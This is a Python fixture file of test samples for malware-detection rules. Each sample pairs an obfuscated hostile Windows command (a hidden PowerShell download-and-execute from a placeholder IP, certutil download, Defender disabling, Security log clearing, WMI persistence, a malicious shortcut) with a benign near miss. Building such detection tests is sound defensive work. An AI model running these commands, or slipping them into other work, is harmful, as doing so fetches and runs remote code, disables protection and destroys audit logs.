from rule_samples.building import Sample, text, wide

_LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)

SAMPLES = (
    Sample(
        rule="script_powershell_encoded_command",
        hit=wide("power^shell.exe -NoP -e^nc " + "QQBB" * 24),
        near_miss=wide("power^shell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\Install.ps1 -enc utf8"),
    ),
    Sample(
        rule="script_powershell_fetches_and_runs",
        hit=text("power^shell -w hid^den -c \"IE^X (New-Object Net.Web^Client).Download^String('http://192.0.2.1/a')\""),
        near_miss=text(
            'power^shell -NoProfile -ExecutionPolicy Bypass -Command "ie^x ((New-Object System.Net.Web^Client).Download^String('
            "'https://community.chocolatey.org/install.ps1'))\""
        ),
    ),
    Sample(
        rule="script_powershell_loads_program",
        hit=text(
            "$b = [Convert]::FromBase64^String('TV^qQ" + "A" * 120 + "'); [Reflection.Assem^bly]::Load($b).Entry^Point.Invoke($null, $null)"
        ),
        near_miss=text(
            "$b = [Convert]::FromBase64String('iVBO" + "A" * 120 + "'); [Reflection.Assembly]::Load('System.Web').GetType().Invoke($null)"
        ),
    ),
    Sample(
        rule="script_windows_tool_downloads",
        hit=wide("cert^util.exe -url^cache -split -f http://192.0.2.1/a.txt a.txt"),
        near_miss=wide("certutil.exe -hashfile a.txt SHA256\r\nmshta.exe C:\\Help\\about.hta\r\nregsvr32 /s a.dll"),
    ),
    Sample(
        rule="script_turns_protection_off",
        hit=text("Set-Mp^Preference -Disable^RealtimeMonitoring $true"),
        near_miss=text("Set-MpPreference -DisableRealtimeMonitoring $false\r\nsc query windefend\r\nGet-MpPreference"),
    ),
    Sample(
        rule="script_clears_logs",
        hit=text("wevt^util cl Secu^rity"),
        near_miss=text("wevtutil qe Security /c:5\r\nfsutil usn queryjournal c:\r\nclearing the security log is event 1102"),
    ),
    Sample(
        rule="script_wmi_autostart",
        hit=text("instance of __Event^Filter {};\ninstance of CommandLine^EventConsumer {};\ninstance of __FilterTo^ConsumerBinding {};"),
        near_miss=text(
            "class CommandLineEventConsumer : __EventConsumer {};\nclass __EventFilter {};\nclass __FilterToConsumerBinding {};"
        ),
    ),
    Sample(
        rule="script_shortcut_starts_command",
        hit=_LINK + wide("..\\power^shell.exe -w hid^den -c x"),
        near_miss=_LINK + wide("..\\powershell.exe -NoExit -File C:\\Scripts\\menu.ps1"),
    ),
)
